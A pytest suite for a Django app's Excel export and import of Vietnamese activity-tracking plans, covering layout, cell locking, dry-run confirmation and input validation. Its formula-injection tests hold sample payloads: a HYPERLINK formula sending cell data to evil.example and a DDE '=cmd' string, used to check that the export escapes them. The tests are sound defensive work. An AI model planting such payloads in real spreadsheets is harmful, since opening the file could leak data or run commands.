"""The offline tracking sheet: the exported workbook read back with openpyxl, filled in as a department
would, and imported through the pages (dry run, then confirm)."""

import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone, translation

from hoptac.core.spreadsheets import is_formula_like
from hoptac.core.text import strip_diacritics
from hoptac.plans.models import Activity, Assignment, ProgressState, Quantity
from hoptac.plans.standing import STANDING_COLOURS, Standing
from hoptac.plans.tests.factories import make_plan
from hoptac.tracking.models import ProgressUpdate
from hoptac.tracking.services.progress import ProgressReport, progress_report
from hoptac.tracking.sheets.layout import FIRST_ROW, HEADER_ROW, META_SHEET, header, status_labels
from hoptac.tracking.sheets.outcomes import Outcome

pytestmark = pytest.mark.django_db

TODAY = date(2024, 4, 15)  # inside "Tháng 4/2024", the factory's window


@pytest.fixture(autouse=True)
def vietnamese_on_15_april():
    moment = timezone.make_aware(timezone.datetime(2024, 4, 15, 10))
    with translation.override("vi"), time_machine.travel(moment, tick=False):
        yield


@pytest.fixture
def plan(world):
    """Three activities the office leads (the first with two targets, the third under the second) and
    one the advice department leads."""
    plan = make_plan(issuer=world["ours"], activities=4, lead=world["office"])
    first, second, third, fourth = plan.activities.order_by("position")
    Activity.objects.filter(pk=third.pk).update(parent=second, depth=1)
    Assignment.objects.filter(activity=fourth).update(
        organisation=world["advice"], name_as_written="Phòng Tư vấn"
    )
    Quantity.objects.create(
        activity=first, value=200, unit="tin bài", text="ít nhất 200 tin bài", achieved=20
    )
    Quantity.objects.create(activity=first, value=5, unit="hội nghị")
    return plan


@pytest.fixture
def office(client, world):
    client.force_login(world["users"]["office"])
    return client


def export(client, plan) -> openpyxl.Workbook:
    response = client.get(reverse("tracking:sheet_export", args=[plan.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def column(sheet, key: str) -> int:
    headers = [c.value for c in sheet[HEADER_ROW]]
    return headers.index(header(key)) + 1


def row_of(sheet, activity) -> int:
    ids = column(sheet, "activity")
    for row in range(FIRST_ROW, sheet.max_row + 1):
        if sheet.cell(row, ids).value == activity.pk:
            return row
    raise AssertionError(f"activity {activity.pk} is not in the sheet")


def fill(sheet, activity, **values) -> int:
    row = row_of(sheet, activity)
    for key, value in values.items():
        sheet.cell(row, column(sheet, key.replace("_", ":") if key[-1].isdigit() else key)).value = value
    return row


def as_bytes(workbook) -> bytes:
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def upload(client, plan, content, name="theo-doi.xlsx"):
    data = content if isinstance(content, bytes) else as_bytes(content)
    file = io.BytesIO(data)
    file.name = name
    return client.post(reverse("tracking:sheet_import", args=[plan.pk]), {"file": file})


def confirm(client, plan, check):
    return client.post(reverse("tracking:sheet_import", args=[plan.pk]), {"token": check.token})


def activities(plan):
    return list(plan.activities.order_by("position"))


def label(state) -> str:
    return status_labels()[state]


def messages(check) -> str:
    return " ".join(m for r in check.rows for m in r.messages) + " ".join(check.errors)


# Export


def test_export_has_one_row_per_activity_in_document_order(office, plan, world):
    workbook = export(office, plan)
    sheet = workbook.worksheets[0]
    first, second, third, fourth = activities(plan)
    assert sheet.cell(1, 1).value == f"{plan.number} {plan.title}"
    assert [c.value for c in sheet[HEADER_ROW]][:9] == [
        header("number"),
        header("title"),
        header("time"),
        header("lead"),
        header("standing"),
        header("state"),
        header("percent"),
        header("result"),
        header("completed_on"),
    ]
    # Two targets on the first activity: two triples of columns.
    for key in ("target:1", "unit:1", "achieved:1", "target:2", "unit:2", "achieved:2"):
        column(sheet, key)
    rows = [sheet.cell(r, column(sheet, "activity")).value for r in range(FIRST_ROW, sheet.max_row + 1)]
    assert rows == [a.pk for a in (first, second, third, fourth)]
    row = row_of(sheet, first)
    assert sheet.cell(row, column(sheet, "number")).value == "1."
    assert sheet.cell(row, column(sheet, "time")).value == "Tháng 4/2024"
    assert sheet.cell(row, column(sheet, "lead")).value == world["office"].name
    assert sheet.cell(row, column(sheet, "state")).value == label(ProgressState.NOT_STARTED)
    assert sheet.cell(row, column(sheet, "percent")).value == 0
    assert sheet.cell(row, column(sheet, "target:1")).value == 200
    assert sheet.cell(row, column(sheet, "unit:1")).value == "tin bài"
    assert sheet.cell(row, column(sheet, "achieved:1")).value == 20
    assert sheet.cell(row, column(sheet, "unit:2")).value == "hội nghị"
    assert sheet.cell(row, column(sheet, "achieved:2")).value is None
    assert sheet.cell(row, column(sheet, "version")).value == 0
    assert sheet.cell(row_of(sheet, fourth), column(sheet, "lead")).value == world["advice"].name
    # The sub-activity is indented, its parent bold.
    assert sheet.cell(row_of(sheet, third), column(sheet, "title")).alignment.indent == 2
    assert sheet.cell(row_of(sheet, second), column(sheet, "title")).font.bold
    assert sheet.cell(row_of(sheet, first), column(sheet, "title")).alignment.indent == 0


def test_export_has_dropdowns_colours_a_frozen_header_and_hidden_ids(office, plan):
    workbook = export(office, plan)
    sheet = workbook.worksheets[0]
    assert sheet.freeze_panes == f"C{FIRST_ROW}"
    meta = workbook[META_SHEET]
    assert meta.sheet_state == "veryHidden"
    assert [meta.cell(r, 3).value for r in range(1, 6)] == list(status_labels().values())
    validations = {v.type: v for v in sheet.data_validations.dataValidation}
    last = FIRST_ROW + 3
    state, percent = column(sheet, "state"), column(sheet, "percent")
    status_cells = f"{sheet.cell(FIRST_ROW, state).coordinate}:{sheet.cell(last, state).coordinate}"
    assert str(validations["list"].sqref) == status_cells
    assert validations["list"].formula1 == f"{META_SHEET}!$C$1:$C$5"
    assert (validations["whole"].formula1, validations["whole"].formula2) == ("0", "100")
    assert str(validations["whole"].sqref).startswith(sheet.cell(FIRST_ROW, percent).coordinate)
    assert validations["decimal"].operator == "greaterThanOrEqual"
    for key in ("activity", "version", "key"):
        assert sheet.column_dimensions[sheet.cell(1, column(sheet, key)).column_letter].hidden
    assert sheet.protection.sheet
    # In April 2024 the April activities are within their term; the colour is the standing's.
    standing = sheet.cell(FIRST_ROW, column(sheet, "standing"))
    assert standing.value == str(Standing.IN_TERM.label)
    assert standing.fill.fgColor.rgb.endswith(STANDING_COLOURS[Standing.IN_TERM].lstrip("#").upper())


def test_export_colours_an_overdue_and_a_done_activity(office, plan):
    first, second, *_ = activities(plan)
    Activity.objects.filter(pk=first.pk).update(ends_on=date(2024, 3, 31))
    Activity.objects.filter(pk=second.pk).update(progress_state=ProgressState.DONE, percent=100)
    sheet = export(office, plan).worksheets[0]
    overdue = sheet.cell(row_of(sheet, first), column(sheet, "standing"))
    done = sheet.cell(row_of(sheet, second), column(sheet, "standing"))
    assert overdue.value == str(Standing.OVERDUE.label)
    assert overdue.fill.fgColor.rgb.endswith(STANDING_COLOURS[Standing.OVERDUE].lstrip("#").upper())
    assert done.fill.fgColor.rgb.endswith(STANDING_COLOURS[Standing.DONE_ON_TIME].lstrip("#").upper())


def test_only_the_rows_the_user_reports_on_are_unlocked(office, plan):
    sheet = export(office, plan).worksheets[0]
    *_, fourth = activities(plan)
    first = activities(plan)[0]
    for key in ("state", "percent", "result", "completed_on", "achieved:1"):
        assert not sheet.cell(row_of(sheet, first), column(sheet, key)).protection.locked
        assert sheet.cell(row_of(sheet, fourth), column(sheet, key)).protection.locked
    assert sheet.cell(row_of(sheet, first), column(sheet, "title")).protection.locked
    assert sheet.cell(row_of(sheet, first), column(sheet, "activity")).protection.locked


def test_export_query_count_does_not_grow_with_rows(client, world, django_assert_max_num_queries):
    client.force_login(world["users"]["staff"])
    small = make_plan(issuer=world["ours"], activities=1, lead=world["office"])
    url = reverse("tracking:sheet_export", args=[small.pk])
    with django_assert_max_num_queries(12) as one_row:
        assert client.get(url).status_code == 200
    large = make_plan(issuer=world["ours"], activities=60, lead=world["office"])
    Quantity.objects.bulk_create(Quantity(activity=a, value=10, unit="lớp") for a in large.activities.all())
    with django_assert_max_num_queries(len(one_row)):
        response = client.get(reverse("tracking:sheet_export", args=[large.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert sheet.max_row == FIRST_ROW + 59


def test_another_alliances_plan_cannot_be_exported_or_imported(client, world, plan):
    client.force_login(world["users"]["other_staff"])
    assert client.get(reverse("tracking:sheet_export", args=[plan.pk])).status_code == 404
    assert client.get(reverse("tracking:sheet_import", args=[plan.pk])).status_code == 404


def test_the_pages_need_a_login(client, plan):
    response = client.get(reverse("tracking:sheet_export", args=[plan.pk]))
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


# Round trip


def test_round_trip_shows_each_change_then_applies_them(office, plan, world):
    first, second, *_ = activities(plan)
    workbook = export(office, plan)
    sheet = workbook.worksheets[0]
    fill(
        sheet,
        first,
        state=label(ProgressState.IN_PROGRESS),
        percent=60,
        result="Đã đăng 158 tin bài",
        achieved_1=158,
        achieved_2="3",
    )
    fill(sheet, second, state=label(ProgressState.DONE), completed_on=date(2024, 4, 10))
    response = upload(office, plan, workbook)
    assert response.status_code == 200
    check = response.context["check"]
    assert not check.errors
    assert [r.row for r in check.changed] == [FIRST_ROW, FIRST_ROW + 1]
    changes = {c.label: (c.old, c.new) for c in check.changed[0].changes}
    achieved = translation.gettext("Achieved (target %(target)s)")
    assert changes == {
        translation.gettext("Status"): (label(ProgressState.NOT_STARTED), label(ProgressState.IN_PROGRESS)),
        translation.gettext("Percent done"): ("0%", "60%"),
        translation.gettext("Result"): ("—", "Đã đăng 158 tin bài"),
        achieved % {"target": "ít nhất 200 tin bài"}: ("20", "158"),
        achieved % {"target": "5 hội nghị"}: ("—", "3"),
    }
    # "Done" is stored at 100%, as the service stores it: the dry run shows what will be saved.
    done = {c.old: c.new for c in check.changed[1].changes}
    assert done["0%"] == "100%"
    assert check.unchanged == 2
    page = response.content.decode()
    assert "Đã đăng 158 tin bài" in page
    assert check.token in page
    # The dry run saved nothing.
    assert not ProgressUpdate.objects.exists()
    assert Activity.objects.get(pk=first.pk).progress_version == 0
    assert Quantity.objects.get(activity=first, unit="tin bài").achieved == 20

    response = confirm(office, plan, check)
    assert response.status_code == 302
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.progress_state, first.percent, first.result) == (
        ProgressState.IN_PROGRESS,
        60,
        "Đã đăng 158 tin bài",
    )
    assert first.progress_by == world["users"]["office"]
    assert (second.progress_state, second.percent, second.completed_on) == (
        ProgressState.DONE,
        100,
        date(2024, 4, 10),
    )
    assert dict(Quantity.objects.filter(activity=first).values_list("unit", "achieved")) == {
        "tin bài": Decimal("158.00"),
        "hội nghị": Decimal("3.00"),
    }
    assert ProgressUpdate.objects.count() == 2
    assert "theo-doi.xlsx" in ProgressUpdate.objects.get(activity=first).note
    # The page after the redirect says what was done; reloading it sends nothing again.
    done_page = office.get(response["Location"])
    assert done_page.context["check"].applied
    assert len(done_page.context["check"].changed) == 2
    assert "Đã đăng 158 tin bài" in done_page.content.decode()
    assert office.get(response["Location"]).context["check"] is None
    # The same confirmation sent again is refused: the versions have moved on.
    again = confirm(office, plan, check)
    assert again.status_code == 400
    assert ProgressUpdate.objects.count() == 2


def test_an_untouched_sheet_has_nothing_to_import(office, plan):
    response = upload(office, plan, export(office, plan))
    check = response.context["check"]
    assert response.status_code == 200
    assert (check.rows, check.unchanged, check.can_confirm) == ([], 4, False)
    assert not check.token


def test_a_row_typed_back_to_its_values_is_no_change(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    # Typed again, in other case and as text: touched, but nothing to change.
    fill(workbook.worksheets[0], first, state=label(ProgressState.NOT_STARTED).upper(), percent="0")
    check = upload(office, plan, workbook).context["check"]
    assert [r.outcome for r in check.rows] == [Outcome.UNCHANGED]
    assert not check.can_confirm


def test_a_status_in_english_and_a_percent_sign_are_understood(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    with translation.override("en"):
        english = label(ProgressState.IN_PROGRESS)
    fill(workbook.worksheets[0], first, state=english.upper(), percent="45%")
    check = upload(office, plan, workbook).context["check"]
    assert check.can_confirm, messages(check)
    confirm(office, plan, check)
    first.refresh_from_db()
    assert (first.progress_state, first.percent) == (ProgressState.IN_PROGRESS, 45)


def test_a_quantity_typed_with_its_own_unit_is_accepted(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(
        workbook.worksheets[0],
        first,
        achieved_1="1.200 tin bài",
        completed_on="10/04/2024",
        state=label(ProgressState.DONE),
    )
    check = upload(office, plan, workbook).context["check"]
    assert check.can_confirm, messages(check)
    confirm(office, plan, check)
    assert Quantity.objects.get(activity=first, unit="tin bài").achieved == Decimal("1200")
    assert Activity.objects.get(pk=first.pk).completed_on == date(2024, 4, 10)


# Bad input: each with its message, nothing saved


def assert_refused(response, *fragments):
    assert response.status_code == 400
    check = response.context["check"]
    text = messages(check)
    for fragment in fragments:
        assert fragment in text, text
    assert not check.can_confirm
    assert not check.token
    assert not ProgressUpdate.objects.exists()
    return check


@pytest.mark.parametrize(
    ("percent", "fragment"),
    [(150, "150"), ("abc", "abc"), (-5, "-5"), (12.5, "12.5")],
)
def test_a_percent_outside_0_to_100_is_a_row_error(office, plan, percent, fragment):
    first, second, *_ = activities(plan)
    workbook = export(office, plan)
    fill(workbook.worksheets[0], second, percent=30)  # a valid row is not applied either
    row = fill(workbook.worksheets[0], first, percent=percent)
    check = assert_refused(upload(office, plan, workbook), fragment, str(row))
    assert [r.row for r in check.row_errors] == [row]
    assert Activity.objects.get(pk=second.pk).percent == 0


def test_a_status_not_in_the_list_is_a_row_error(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    row = fill(workbook.worksheets[0], first, state="Gần xong")
    assert_refused(upload(office, plan, workbook), "Gần xong", str(row), label(ProgressState.DONE))


def test_an_empty_status_is_a_row_error(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, state=None)
    assert_refused(upload(office, plan, workbook), str(FIRST_ROW))


def test_a_quantity_in_the_wrong_unit_is_a_row_error(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, achieved_1="150 người")
    assert_refused(upload(office, plan, workbook), "tin bài", "người")


def test_an_edited_unit_cell_is_a_row_error(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, unit_1="bài viết", achieved_1=150)
    assert_refused(upload(office, plan, workbook), "tin bài", "bài viết")


def test_a_quantity_that_is_not_a_number_is_a_row_error(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, achieved_1="nhiều")
    assert_refused(upload(office, plan, workbook), "nhiều")


def test_a_bad_completion_date_is_a_row_error(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, completed_on="31/02/2024", state=label(ProgressState.DONE))
    assert_refused(upload(office, plan, workbook), "31/02/2024")


def test_a_completion_date_after_today_is_refused_by_the_service(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, completed_on=date(2024, 5, 1), state=label(ProgressState.DONE))
    assert_refused(upload(office, plan, workbook), str(FIRST_ROW))


def test_a_formula_is_a_row_error(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, percent="=50+10")
    assert_refused(upload(office, plan, workbook), str(FIRST_ROW), header("percent"))


@pytest.mark.parametrize("key", ["activity", "version", "key"])
def test_an_edited_hidden_cell_is_a_row_error(office, plan, key):
    first, second, *_ = activities(plan)
    workbook = export(office, plan)
    sheet = workbook.worksheets[0]
    fill(sheet, second, percent=30)
    row = row_of(sheet, first)
    cell = sheet.cell(row, column(sheet, key))
    cell.value = second.pk if key == "activity" else 7 if key == "version" else cell.value[:-3] + "abc"
    check = assert_refused(upload(office, plan, workbook), str(row))
    assert [r.row for r in check.row_errors] == [row]


def test_a_sheet_of_another_plan_is_refused(office, plan, world):
    other = make_plan(issuer=world["ours"], activities=2, lead=world["office"])
    workbook = export(office, other)
    fill(workbook.worksheets[0], activities(other)[0], percent=40)
    check = assert_refused(upload(office, plan, workbook), other.number, plan.number)
    assert check.rows == []


def test_a_row_pasted_from_another_plans_sheet_is_refused(office, plan, world):
    other = make_plan(issuer=world["ours"], activities=1, lead=world["office"])
    foreign = export(office, other).worksheets[0]
    workbook = export(office, plan)
    sheet = workbook.worksheets[0]
    row = row_of(sheet, activities(plan)[1])
    for key in ("activity", "version", "key"):
        sheet.cell(row, column(sheet, key)).value = foreign.cell(FIRST_ROW, column(foreign, key)).value
    sheet.cell(row, column(sheet, "percent")).value = 10
    assert_refused(upload(office, plan, workbook), str(row))


def test_the_same_activity_twice_is_refused(office, plan):
    workbook = export(office, plan)
    sheet = workbook.worksheets[0]
    source = row_of(sheet, activities(plan)[0])
    target = sheet.max_row + 1
    for index in range(1, sheet.max_column + 1):
        sheet.cell(target, index).value = sheet.cell(source, index).value
    assert_refused(upload(office, plan, workbook), str(target), str(source))


def test_a_row_added_in_the_sheet_is_refused(office, plan):
    workbook = export(office, plan)
    sheet = workbook.worksheets[0]
    sheet.cell(sheet.max_row + 1, column(sheet, "title")).value = "Hoạt động mới"
    assert_refused(upload(office, plan, workbook), str(FIRST_ROW + 4))


def test_moved_columns_are_refused(office, plan):
    workbook = export(office, plan)
    workbook.worksheets[0].insert_cols(3)
    assert_refused(upload(office, plan, workbook), "theo-doi.xlsx")


def test_a_sheet_not_exported_by_hoptac_is_refused(office, plan):
    workbook = openpyxl.Workbook()
    workbook.active.append(["TT", "Nội dung", "Trạng thái"])
    assert_refused(upload(office, plan, workbook), "theo-doi.xlsx")


def test_an_edited_hidden_sheet_is_refused(office, plan):
    workbook = export(office, plan)
    workbook[META_SHEET]["A1"].value = workbook[META_SHEET]["A1"].value[:-2] + "xx"
    assert_refused(upload(office, plan, workbook), "theo-doi.xlsx")


@pytest.mark.parametrize(
    "content",
    [
        b"TT;Trang thai\n1;xong\n",  # a CSV file
        b"<!doctype html><script>alert(1)</script>",  # a web page
        b"PK\x03\x04 not really a zip",
        b"",
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused(office, plan, content):
    response = upload(office, plan, content, name="bang.xlsx")
    assert response.status_code == 400
    if content:
        assert "bang.xlsx" in messages(response.context["check"])
    assert not ProgressUpdate.objects.exists()


def test_a_zip_that_is_not_a_workbook_is_refused(office, plan):
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert_refused(upload(office, plan, package.getvalue(), name="van-ban.xlsx"), "van-ban.xlsx")


# Rows that are skipped and listed


def test_a_row_of_another_unit_is_listed_and_not_applied(office, plan):
    first, *_, fourth = activities(plan)
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, percent=20)
    row = fill(workbook.worksheets[0], fourth, percent=90)
    response = upload(office, plan, workbook)
    check = response.context["check"]
    assert response.status_code == 200
    assert [(r.row, r.outcome) for r in check.skipped] == [(row, Outcome.NOT_YOURS)]
    assert check.can_confirm
    confirm(office, plan, check)
    assert Activity.objects.get(pk=first.pk).percent == 20
    assert Activity.objects.get(pk=fourth.pk).percent == 0


def test_a_newer_change_in_the_system_is_not_overwritten(office, plan, world):
    first, second, *_ = activities(plan)
    workbook = export(office, plan)
    progress_report(
        activity=first,
        version=0,
        by=world["users"]["staff"],
        report=ProgressReport(state=ProgressState.IN_PROGRESS, percent=70),
    )
    fill(workbook.worksheets[0], first, percent=10)
    fill(workbook.worksheets[0], second, percent=25)
    check = upload(office, plan, workbook).context["check"]
    assert [(r.row, r.outcome) for r in check.skipped] == [(FIRST_ROW, Outcome.CONFLICT)]
    assert "70%" in messages(check)
    confirm(office, plan, check)
    assert Activity.objects.get(pk=first.pk).percent == 70
    assert Activity.objects.get(pk=second.pk).percent == 25


def test_an_untouched_row_of_an_activity_changed_since_is_simply_unchanged(office, plan, world):
    first = activities(plan)[0]
    workbook = export(office, plan)
    progress_report(
        activity=first,
        version=0,
        by=world["users"]["staff"],
        report=ProgressReport(state=ProgressState.IN_PROGRESS, percent=70),
    )
    check = upload(office, plan, workbook).context["check"]
    assert (check.rows, check.unchanged) == ([], 4)


def test_a_removed_activity_is_listed_and_not_applied(office, plan):
    first, second, *_ = activities(plan)
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, percent=15)
    row = fill(workbook.worksheets[0], second, percent=50)
    Activity.objects.filter(pk=second.pk).delete()  # and its sub-activity with it
    check = upload(office, plan, workbook).context["check"]
    assert [(r.row, r.outcome) for r in check.skipped] == [(row, Outcome.REMOVED)]
    assert check.can_confirm


def test_a_report_between_the_dry_run_and_the_confirmation_applies_nothing(office, plan, world):
    first, second, *_ = activities(plan)
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, percent=10)
    fill(workbook.worksheets[0], second, percent=25)
    check = upload(office, plan, workbook).context["check"]
    assert check.can_confirm
    progress_report(
        activity=second,
        version=0,
        by=world["users"]["staff"],
        report=ProgressReport(state=ProgressState.IN_PROGRESS, percent=70),
    )
    response = confirm(office, plan, check)
    assert response.status_code == 400
    result = response.context["check"]
    assert not result.applied
    assert [r.row for r in result.row_errors] == [FIRST_ROW + 1]
    assert Activity.objects.get(pk=first.pk).percent == 0  # the valid row was not applied either
    assert Activity.objects.get(pk=second.pk).percent == 70
    assert ProgressUpdate.objects.count() == 1


def test_a_confirmation_is_bound_to_its_user_and_plan(office, client, plan, world):
    workbook = export(office, plan)
    fill(workbook.worksheets[0], activities(plan)[0], percent=10)
    check = upload(office, plan, workbook).context["check"]
    other = make_plan(issuer=world["ours"], activities=1, lead=world["office"])
    assert confirm(office, other, check).status_code == 400
    client.force_login(world["users"]["staff"])
    response = confirm(client, plan, check)
    assert response.status_code == 400
    assert response.context["check"].errors
    response = client.post(reverse("tracking:sheet_import", args=[plan.pk]), {"token": "forged"})
    assert response.status_code == 400
    assert not ProgressUpdate.objects.exists()


def test_an_old_confirmation_is_refused(office, plan):
    workbook = export(office, plan)
    fill(workbook.worksheets[0], activities(plan)[0], percent=10)
    check = upload(office, plan, workbook).context["check"]
    later = timezone.make_aware(timezone.datetime(2024, 4, 15, 12))
    with time_machine.travel(later, tick=False):
        response = confirm(office, plan, check)
    assert response.status_code == 400
    assert not ProgressUpdate.objects.exists()


def test_the_staff_imports_every_row(client, plan, world):
    client.force_login(world["users"]["staff"])
    *_, fourth = activities(plan)
    workbook = export(client, plan)
    fill(workbook.worksheets[0], fourth, state=label(ProgressState.POSTPONED))
    check = upload(client, plan, workbook).context["check"]
    assert check.can_confirm
    confirm(client, plan, check)
    assert Activity.objects.get(pk=fourth.pk).progress_state == ProgressState.POSTPONED


def test_the_page_offers_the_download_and_the_upload(office, plan):
    response = office.get(reverse("tracking:sheet_import", args=[plan.pk]))
    page = response.content.decode()
    assert response.status_code == 200
    assert reverse("tracking:sheet_export", args=[plan.pk]) in page
    assert 'type="file"' in page


def test_a_status_without_diacritics_is_understood(office, plan):
    first = activities(plan)[0]
    workbook = export(office, plan)
    fill(workbook.worksheets[0], first, state=strip_diacritics(label(ProgressState.DONE)).lower())
    check = upload(office, plan, workbook).context["check"]
    assert check.can_confirm, messages(check)


def test_the_download_is_named_after_the_plan(office, plan):
    response = office.get(reverse("tracking:sheet_export", args=[plan.pk]))
    number = plan.number.split("/")[0]
    assert response["Content-Disposition"].endswith(f'-{number}kh-lmhtx.xlsx"')


def test_a_file_over_the_upload_limit_is_refused(office, plan, settings):
    content = as_bytes(export(office, plan))
    settings.UPLOAD_MAX_BYTES = 100
    response = upload(office, plan, content)
    assert response.status_code == 400
    assert response.context["form"].errors


# Formula injection: user text that a spreadsheet would run is written as text


INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "@SUM(A1:A2)", " \t=1+1"]


def test_user_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(office, plan, world):
    first, second, third, fourth = activities(plan)
    titles = dict(zip((first, second, third, fourth), INJECTIONS, strict=False))
    for activity, title in titles.items():
        Activity.objects.filter(pk=activity.pk).update(title=title)
    Activity.objects.filter(pk=first.pk).update(result="=1+2", time_text="-Tháng 4")
    plan.title = "=cmd|' /C calc'!A0"
    plan.save(update_fields=["title"])

    response = office.get(reverse("tracking:sheet_export", args=[plan.pk]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert (sheet.cell(1, 1).value, sheet.cell(1, 1).data_type) == (f"{plan.number} {plan.title}", "s")
    for activity, title in titles.items():
        cell = sheet.cell(row_of(sheet, activity), column(sheet, "title"))
        assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)
    row = row_of(sheet, first)
    assert sheet.cell(row, column(sheet, "result")).value == "=1+2"
    assert sheet.cell(row, column(sheet, "time")).quotePrefix
    # Imported back untouched: every row reads as it was exported, nothing is a formula or a change.
    check = upload(office, plan, response.content).context["check"]
    assert (check.rows, check.unchanged, check.errors) == ([], 4, [])


@pytest.mark.parametrize(
    ("text", "is_formula"),
    [
        *[
            ("=1", True),
            ("+1", True),
            ("-1", True),
            ("@A1", True),
            ("  =1", True),
            ("\t1", True),
            ("\r1", True),
        ],
        *[("Kế hoạch", False), ("1.2", False), ("", False), ("a=b", False)],
    ],
)
def test_formula_like_text(text, is_formula):
    assert is_formula_like(text) is is_formula
